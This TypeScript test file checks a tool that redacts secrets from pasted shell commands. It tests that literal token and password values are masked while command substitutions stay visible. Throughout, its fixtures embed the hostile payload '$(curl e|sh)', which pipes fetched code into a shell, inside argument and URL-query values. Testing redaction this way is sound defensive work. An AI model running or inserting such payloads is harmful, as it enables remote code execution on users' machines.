// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectHiddenLine,
  exportedArgs,
  exportedCommand,
  outsideReferences,
  payloadsIn,
} from "./test-support/spec-cases.js";

// fix178: leaks fix177 reproduced and left.
// 1. A pasted default's word mixing literal text and run-time parts that holds a quote or a
//    backslash (`-e DB_PASSWORD=${V:-Q9`id`\"}`, `--token ${V:-"Q9"$(id)}`) was read at run time
//    whole: `Q9` kept in clear in both views. Its quotes are read as bash reads them there, each
//    literal stretch hidden (the quotes kept where they stand), each run-time part kept in sight.
// 2. A URL's query continued past an unquoted `&` (`srv https://h/p?b=1&token=${X}-J`): a shell
//    runs `token=${X}-J` as a command of its own, read as an assignment whose `-J` is a short label
//    beside a reference: kept in the display, and in a `--run` argument in both views. The pair is
//    the URL's: its literal text is hidden as a query value's is, its run-time parts kept in sight.
// 3. An argument whose later URL has more pairs after the one its first blank stands in
//    (`["see https://h/p?b=1&api_key=a b&api_key=${X}$(curl e|sh)J"]`) was read as a line: the
//    payload `$(curl e|sh)` hidden in the display. When each pair after it tells (its blanks only
//    inside its run-time parts), the URL runs to the argument's end, each pair's literal text
//    hidden, each run-time part in sight.

describe("a pasted default's word holding a quote or a backslash", () => {
  it.each([
    [
      'srv -e DB_PASSWORD=${V:-Q9`id`\\"}',
      "srv -e DB_PASSWORD=${V:-•`id`•}",
      "srv -e DB_PASSWORD=${V:-${DB_PASSWORD}`id`${DB_PASSWORD_2}}",
    ],
    ['srv --token ${V:-"Q9"$(id)}', 'srv --token ${V:-"•"$(id)}', 'srv --token ${V:-"${TOKEN}"$(id)}'],
    ['srv --token "${V:-"Q9"$(id)}"', 'srv --token "${V:-"•"$(id)}"', 'srv --token "${V:-"${TOKEN}"$(id)}"'],
    ["srv --token ${V:-'Q9'$(id)}", "srv --token ${V:-'•'$(id)}", "srv --token ${V:-'${TOKEN}'$(id)}"],
    [
      'srv --token ${V:-"Q9 $(curl e|sh) x"}',
      'srv --token ${V:-"•$(curl e|sh)•"}',
      'srv --token ${V:-"${TOKEN}$(curl e|sh)${TOKEN_2}"}',
    ],
  ])("%s: its literal stretches hidden, its run-time parts in sight", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("given as an argument, hidden as before", () => {
    expect(withoutArgSecrets(["--token", '${V:-"Q9"$(id)}'], () => "•")).toEqual(["--token", "${V:-•$(id)}"]);
    expect(exportedArgs(["--token", '${V:-"Q9"$(id)}'])).toEqual(["--token", "${V:-${TOKEN}$(id)}"]);
  });

  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ]{1,3}$/),
          fc.constantFrom(
            '"',
            "'J'",
            '"Q',
            '\\"',
            "\\\\",
            "\\J",
            " ",
            "${X}",
            "$X/",
            "$(curl e|sh)",
            "`curl e|sh`",
          ),
        ),
        { minLength: 2, maxLength: 6 },
      )
      .map((parts) => parts.join(""))
      // Each `"` closed, the word holding a quote or a backslash, literal text and a run-time part.
      .filter(
        (text) =>
          (text.replace(/\\./g, "").match(/"/g) ?? []).length % 2 === 0 &&
          /[JQ]/.test(text) &&
          /['"\\]/.test(text) &&
          /[$`]/.test(text),
      );
    fc.assert(
      fc.property(word, fc.constantFrom("--token ", "-e DB_PASSWORD="), (w, lead) => {
        const line = `srv ${lead}\${V:-${w}}`;
        const exported = exportedCommand(line) ?? line;
        expect(outsideReferences(exported)).not.toMatch(/[JQ]/);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expectFilledBack(line);
        expectArgFilledBack([line]);
      }),
      propertyRuns(300),
    );
  });
});

describe("a URL's query continued past an unquoted `&`", () => {
  it.each([
    [
      "srv https://h/p?b=1&token=${X}-J",
      "srv https://h/p?b=1&token=${X}•",
      "srv https://h/p?b=1&token=${X}${TOKEN}",
    ],
    [
      "srv --url https://h/p?b=1&c=2&api_key=$(curl e|sh)-J",
      "srv --url https://h/p?b=1&c=2&api_key=$(curl e|sh)•",
      "srv --url https://h/p?b=1&c=2",
    ],
    ["srv https://h/p?b=1&token=$X-J", "srv https://h/p?b=1&token=$X•", "srv https://h/p?b=1&token=${TOKEN}"],
  ])("pasted: %s", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("given as a `--run` argument: hidden in both views, run-time parts in sight", () => {
    expectArgs(
      ["--run", "srv https://h/p?b=1&token=${X}-J"],
      ["--run", "srv https://h/p?b=1&token=${X}•"],
      ["--run", "srv https://h/p?b=1&token=${X}${TOKEN}"],
    );
    expectArgs(
      ["--run", "srv https://h/p?b=1&token=$(curl e|sh)-J"],
      ["--run", "srv https://h/p?b=1&token=$(curl e|sh)•"],
      ["--run", "srv https://h/p?b=1"],
    );
  });

  it("references alone, a pair that does not tell, or no URL before: read as before", () => {
    for (const line of [
      "srv https://h/p?b=1&token=${X}",
      "srv https://h/p?b=1&token=$X",
      "srv https://h/p?b=1&page=${X}-J",
      "srv token=${X}-J",
      "srv https://h/p?b=1 & token=${X}-J",
    ]) {
      expect(withoutCommandLineSecrets(line, () => "•")).toBe(line);
      expect(exportedArgs(["--run", line])).toEqual(["--run", line]);
    }
  });

  it("a pair written apart by an escape, or left open, read as before (the differential check's finds)", () => {
    // The next pair's name was kept in the export (`&J}api_key=${J_API_KEY}`), where the URL dropped it.
    expect(exportedCommand('srv https://h/p?b=1&token=\\"${X}&J}api_key=-J-J')).toBe("srv https://h/p?b=1");
    // A line a shell refuses: the payload was hidden with the value. fix179: the default left open
    // is the value, its literal stretches hidden, the payload in sight (see leaks-r79).
    const open = "see https://h/p?b=1&token=${V:--J'$(curl e|sh) J";
    expect(withoutCommandLineSecrets(open, () => "•")).toBe("see https://h/p?b=1&token=${V:-•$(curl e|sh)•");
  });

  it("property: no literal of a telling pair's value in clear, each payload in sight as often as written", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JQ-]{1,3}$/),
          fc.constantFrom("${X}", "$X/", "$(curl e|sh)", "`curl e|sh`"),
        ),
        {
          minLength: 1,
          maxLength: 5,
        },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const make = fc.constantFrom(
      (v: string) => `srv https://h/p?b=1&token=${v}`,
      (v: string) => `srv --url https://h/p?b=1&c=2&api_key=${v} --port 80`,
    );
    fc.assert(
      fc.property(make, value, (build, v) => {
        const line = build(v);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outsideReferences(shown).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(line));
        expect(outsideReferences(exportedCommand(line) ?? line).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
        expectFilledBack(line);
        const args = ["--run", line];
        const shownArgs = JSON.stringify(withoutArgSecrets(args, () => "•"));
        expect(outsideReferences(shownArgs).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
        expect(outsideReferences(JSON.stringify(exportedArgs(args))).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
        expectArgFilledBack(args);
      }),
      propertyRuns(300),
    );
  });
});

describe("a later URL with more telling pairs after the one its first blank stands in", () => {
  it("runs to the argument's end: each payload in sight, the literal text hidden", () => {
    expectArgs(
      ["see https://h/p?b=1&api_key=a b&api_key=${X}$(curl e|sh)J"],
      ["see https://h/p?b=1&api_key=•&api_key=${X}$(curl e|sh)•"],
      ["see https://h/p?b=1"],
    );
    expectArgs(
      ["see https://h/p?token=a b&token=J$(curl e|sh)"],
      ["see https://h/p?token=•&token=•$(curl e|sh)"],
      ["see https://h/p"],
    );
    expectArgs(
      ["--run", "see https://h/p?api_key=a b&token=`curl e|sh`J"],
      ["--run", "see https://h/p?api_key=•&token=`curl e|sh`•"],
      ["--run", "see https://h/p"],
    );
  });

  it("a pair after it that does not tell: the URL's (fix180: `b` is the token's value's), its text past a blank read as a line", () => {
    expectArgs(
      ["see https://h/p?token=a b&page=x password=Y"],
      ["see https://h/p?token=•&page=x password=•"],
      ["see https://h/p?page=x password=${PASSWORD}"],
    );
  });

  it("property: no literal in clear, each payload in sight as often as written, filled back byte for byte", () => {
    const value = fc
      .array(
        fc.oneof(fc.stringMatching(/^[JQ]{1,3}$/), fc.constantFrom("${X}", "$(curl e|sh)", "`curl e|sh`")),
        {
          minLength: 1,
          maxLength: 4,
        },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text));
    const make = fc.constantFrom(
      (a: string, _b: string) => `see https://h/p?b=1&api_key=J Q&api_key=${a}`,
      (a: string, b: string) => `see https://h/p?token=${a} Q&token=${b}`,
      (a: string, b: string) => `x https://h/p?token=J ${a}&api_key=${b}&token=${a}`,
    );
    fc.assert(
      fc.property(make, value, value, (build, a, b) => {
        const args = ["--run", build(a, b)];
        const arg = args[1] as string;
        const shown = JSON.stringify(withoutArgSecrets(args, () => "•"));
        expect(outsideReferences(shown)).not.toMatch(/[JQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(arg));
        expect(outsideReferences(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JQ]/);
        expectArgFilledBack(args);
        expectArgFilledBack([arg]);
      }),
      propertyRuns(300),
    );
  });
});
